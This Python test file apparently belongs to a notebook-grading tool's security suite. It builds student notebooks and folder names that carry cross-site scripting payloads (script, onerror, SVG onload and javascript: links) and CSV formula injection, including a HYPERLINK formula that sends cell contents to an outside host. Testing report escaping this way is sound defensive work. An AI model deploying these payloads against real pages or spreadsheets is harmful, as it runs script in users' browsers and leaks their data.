"""Work that wants to act in the browser or the spreadsheet of whoever reads it. The grades are ordinary."""

from __future__ import annotations

from tests.attacks.book import Book
from tests.attacks.cases import Cases

cases = Cases("pages")

MARK = "alert('owned')"
SCRIPT = f"<script>{MARK}</script>"
ONERROR = f'<img src=x onerror="{MARK}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'
LINK = f'<a href="javascript:{MARK}">click</a>'
EVIL = SCRIPT + ONERROR + SVG + LINK
BROKEN_OUT = f"</pre></div></textarea></title></style>--><!--{EVIL}"


@cases.notebook("HTML displayed")
def html(book):
    book.below("conventions", f"from IPython.display import HTML\nHTML({EVIL!r})")


@cases.notebook("every kind of display")
def every_kind(book):
    kinds = ["text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/vnd.mermaid"]
    bundle = dict.fromkeys([*kinds, "application/vnd.jupyter.widget-view+json"], EVIL)
    book.below("conventions", f"from IPython.display import display\ndisplay({bundle!r}, raw=True)")


@cases.notebook("a picture that is a page")
def picture(book):
    book.below(
        "conventions",
        f"from IPython.display import display\nimport base64\n"
        f"display({{'image/png': base64.b64encode({EVIL!r}.encode()).decode(), 'text/plain': {EVIL!r}}}, raw=True)\n"
        f"display({{'image/png': {EVIL!r}, 'image/jpeg': {EVIL!r}, 'image/gif': {EVIL!r}}}, raw=True)",
    )


@cases.notebook("prints and errors with markup and colors")
def streams(book):
    book.below(
        "conventions",
        f"import sys\nprint({BROKEN_OUT!r})\nprint({BROKEN_OUT!r}, file=sys.stderr)\n"
        f"print('\\x1b]8;;javascript:{MARK[:5]}\\x07x\\x1b]8;;\\x07\\x1b[31m' + {BROKEN_OUT!r})",
        f"raise type({BROKEN_OUT!r}, (Exception,), {{}})({BROKEN_OUT!r})",
    )


@cases.notebook("an error that draws itself")
def drawn_error(book):
    book.below(
        "conventions",
        f"class Drawn(Exception):\n    def _render_traceback_(self):\n        return [{EVIL!r}]\n"
        f"    def _repr_html_(self):\n        return {EVIL!r}\nraise Drawn({EVIL!r})",
    )


@cases.notebook("markup in a wrong answer's error")
def wrong_answer(book):
    book.write(
        "correlate2d", f"def correlate2d(image, kernel):\n    raise type({EVIL!r}, (Exception,), {{}})({EVIL!r})"
    )
    book.write("convolve2d", f"def convolve2d(image, kernel):\n    return {EVIL!r}")
    book.write(
        "relu", f"class {'X' * 300}:\n    __repr__ = lambda self: {EVIL!r}\ndef relu(x):\n    return {'X' * 300}()"
    )
    book.write("conv_multichannel", f"{'conv_multichannel'} = type({EVIL!r}, (), {{}})()")


@cases.notebook("markup in code, comments and the syntax of an error")
def in_code(book):
    book.write(
        "correlate2d", f"# {BROKEN_OUT}\ndef correlate2d(image, kernel):\n    x = '''{BROKEN_OUT}'''\n    return {EVIL}"
    )


@cases.notebook("Markdown of the student's own")
def own_markdown(book):
    book.write("conventions", EVIL + f'\n\n[x](javascript:{MARK})\n\n![x](x "onerror={MARK}")\n')
    book.below("conventions", EVIL, f"$$\\href{{javascript:{MARK}}}{{x}}$$", kind="markdown")


@cases.notebook("Markdown in place of an answer")
def markdown_answer(book):
    book.cell("correlate2d")["cell_type"] = "markdown"
    book.write("correlate2d", EVIL)


@cases.notebook("outputs, attachments and metadata with markup")
def outputs(book):
    for cell in book.cells:
        cell["metadata"] |= {"name": EVIL, "jupyter": {"x": EVIL}, "tags": [EVIL]}
        cell["attachments"] = {"x.svg": {"image/svg+xml": SVG}}
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": EVIL}}]
    book.tree["metadata"] |= {"title": EVIL, "authors": [{"name": EVIL}]}


@cases.notebook("ids with markup")
def ids(book):
    for n, cell in enumerate(book.cells):
        if cell["id"] not in ("correlate1d",):
            cell["id"] = f'"><script>{MARK}</script>{n}'
    book.below(book.cells[3]["id"], "1 / 0")


def formula_book(text: str) -> Book:
    """A notebook that puts a text wherever a report may repeat it."""
    return (
        Book()
        .answer("correlate1d")
        .write(
            "correlate2d", f"def correlate2d(image, kernel):\n    raise type({text!r}, (Exception,), {{}})({text!r})"
        )
        .write("relu", f"def relu(x):\n    return {text!r}")
    )


@cases.notebook("formulas for a spreadsheet")
def formulas(book):
    book.tree = formula_book('=HYPERLINK("http://203.0.113.7/"&A1)\t,;"\n@SUM(1)').tree


# Names of students, which are folder names: what a file system lets through, and nbgrader's own rules of paths.
STUDENTS = {
    "script": "<script>alert('owned')<_script>",
    "svg": "<svg onload=alert('owned')>",
    "onerror": "<img src=x onerror=alert('owned')>",
    "quote": 'O\'Brien, "Pat"',
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "comma": "a,b;c\td",
    "newline": "a\nb",
    "japanese": "田中 愛子",
    "arabic": "ليلى",
    "bidi": "abc\u202edcba",
    "braces": "{__class__} %s {{x}} ${y}",
    "wildcard": "st*d[e]n?t",
    "backslash": "a\\b",
    "escape": "\x1b[2Jx",
    "long": "x" * 200,
}
